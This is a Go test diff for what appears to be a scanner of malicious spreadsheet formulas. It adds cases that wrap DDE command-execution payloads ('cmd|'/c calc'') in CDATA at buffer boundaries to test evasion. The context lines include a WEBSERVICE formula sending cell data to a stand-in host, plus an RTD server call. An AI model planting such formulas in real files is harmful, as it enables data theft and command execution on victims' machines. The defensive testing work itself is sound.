@@ -193,6 +193,10 @@ func wrap(s string, n int) string {
 
 func formulaTricks(runs, fine addOffice) {
 	runs("formula-that-sends-cells", xlsxType, formulaCell(`_xlfn.WEBSERVICE("https://example.org/?"&amp;A1)`))
+	for _, n := range []int{16280, 16300, 16310, 16320} { // the buffer ends before, in and behind what counts
+		runs(fmt.Sprintf("formula-in-cdata-that-straddles-%d", n), xlsxType, formulaCell(`<![CDATA[IF("`+strings.Repeat("]", n)+`">"]] >",cmd|'/c calc'!A0)]]>`))
+	}
+	fine("formula-in-cdata", xlsxType, formulaCell(`<![CDATA[IF("`+strings.Repeat("]", 20_000)+`">"]]",1,2)]]>`))
 	runs("formula-that-starts-a-server", xlsxType, formulaCell(`IF(1,RTD("a.b","","c"))`))
 	runs("dde-formula-within-another", xlsxType, formulaCell(`IF(A1="x",(cmd|'/c calc'!A0),"")`))
 	runs("dde-formula-as-a-name", xlsxType, parts{"xl/workbook.xml": strings.Replace(xlsxParts["xl/workbook.xml"], "Sheet1!$A$1", "cmd|'/c calc'!A0", 1)})
